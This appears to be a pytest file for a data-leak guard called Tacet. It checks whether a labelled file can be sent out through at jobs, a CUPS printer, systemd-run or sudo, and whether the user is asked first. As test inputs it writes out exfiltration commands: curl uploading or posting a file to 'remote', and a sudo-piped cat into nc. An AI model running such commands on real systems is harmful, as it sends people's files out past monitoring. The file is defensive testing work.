# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways past Tacet by way of services of the machine: they do for anna what she asks for, in processes that are not hers to see."""

import pytest

from thorough import daily

NEWEST_KERNEL_ONLY = True
SEND = "curl -sS -m 90 -T {file} http://remote/"
# Shell commands of anna's. What is sent goes out later, and not by the command itself.
WAYS = {
    "at-job": f"echo '{SEND}' | at now",
    "printer": "lp -d remote -o raw {file}",
    "systemd-run": f"systemd-run --user --quiet --collect {SEND}",
    "systemd-run-with-content": "systemd-run --user --quiet --collect curl -sS -m 90 -d \"$(cat {file})\" http://remote/",
    "sudo": "echo anna | sudo -S -p '' cat {file} | nc -N -w 90 remote 9",
}


@pytest.fixture(scope="module")
def printer(guest):
    """A printer on the other host."""
    guest.run("systemctl start cups && lpadmin -p remote -E -v socket://remote:9 -m raw", check=True)
    yield
    guest.run("lpadmin -x remote; systemctl stop cups.service cups.socket cups.path")


@pytest.mark.parametrize("way", daily(WAYS, "at-job"))
def test_asked(scene, printer, way):
    """Somebody is asked, and what is blocked does not arrive."""
    scene.label()
    attempt = scene.start(WAYS[way].format(file=scene.file))
    question = scene.tacet.wait_question()
    # The printer's files are copies.
    assert question["file"] == scene.file or way == "printer"
    scene.tacet.answer(question, "block")
    attempt.finish()
    scene.assert_nothing_leaked()


@pytest.mark.parametrize("way", daily(WAYS, "at-job"))
def test_arrives_without_label(scene, printer, way):
    """Without the mark the same command sends all of it, unasked."""
    scene.secret.allowed = True
    scene.run(WAYS[way].format(file=scene.file))
    scene.guest.wait_for(lambda: scene.secret.leaked(scene.remote.received) == scene.secret.size, what="the file at the other host")
    scene.assert_unasked()
